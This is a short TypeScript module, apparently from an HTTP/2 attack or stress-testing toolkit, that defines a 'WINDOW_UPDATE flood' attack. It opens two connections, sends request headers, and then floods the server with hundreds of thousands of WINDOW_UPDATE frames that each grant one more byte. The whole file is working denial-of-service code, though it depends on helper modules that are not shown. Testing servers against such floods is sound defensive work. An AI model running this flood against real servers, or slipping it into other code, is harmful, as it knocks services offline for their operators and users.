import { type Attack, callHeaders, repeated } from "./attack.js";
import { frame, number32, TYPE } from "./frames.js";

/** Room for one more byte, again and again. */
export const windowUpdateFlood: Attack = {
  name: "WINDOW_UPDATE flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.write(callHeaders(1));
    await connection.flood(repeated(frame(TYPE.windowUpdate, 0, 0, number32(1)), 500), 500);
  },
};
